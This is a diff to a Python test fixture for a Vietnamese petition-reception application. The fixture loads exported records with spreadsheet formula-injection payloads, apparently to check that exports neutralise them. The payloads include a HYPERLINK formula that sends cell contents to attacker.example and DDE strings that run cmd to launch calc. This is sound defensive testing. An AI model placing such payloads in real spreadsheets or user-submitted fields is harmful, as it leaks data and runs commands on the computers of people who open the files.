@@ -24,6 +24,7 @@ from neuguong.reception.tests.conftest import client_for, days_ago, receive
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Xem chi tiết")'
 PLUS, MINUS, AT = "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"
+NAME = '=HYPERLINK("//x.vn","An")'  # person names are split into 40-character parts
 SRC = Path(__file__).resolve().parents[2]
 
 
@@ -33,7 +34,7 @@ def exports(commune, unit_admin):
     catalogue_services.catalogues_load(acting_user=SYSTEM)
     officer = UserFactory(username="officer_x", person=PersonFactory(full_name="Hồ Thị Tiếp", unit=commune))
     grant(officer, Role.RECEPTION_STAFF, commune)
-    PersonFactory(full_name=FORMULA, unit=commune, phone=PLUS, email="")
+    PersonFactory(full_name=NAME, unit=commune, phone="+84 912 345 678", email="")
     receive(officer, commune, subject=FORMULA, petitioner_name=AT, petitioner_address=MINUS, content=PLUS,
             received_on=days_ago(90))  # overdue: in the backlog sheet of the report too
     session = reception.session_create(unit_id=commune.pk, title=FORMULA, held_on=days_ago(0), acting_user=officer)
@@ -41,7 +42,7 @@ def exports(commune, unit_admin):
                            visitor={"full_name": AT, "address": MINUS, "group_size": 1, "representatives": PLUS},
                            kinds=["complaint"], matter={"subject": FORMULA, "content": PLUS,
                                                         "previously_resolved_by": MINUS})
-    campaign = counted_campaign(commune, unit_admin, names=(FORMULA, AT), online=1, paper=3, title=FORMULA,
+    campaign = counted_campaign(commune, unit_admin, names=(NAME, AT), online=1, paper=3, title=FORMULA,
                                 post=MINUS)
     return {
         "orgs:people_export": (unit_admin, "/people/export.xlsx"),
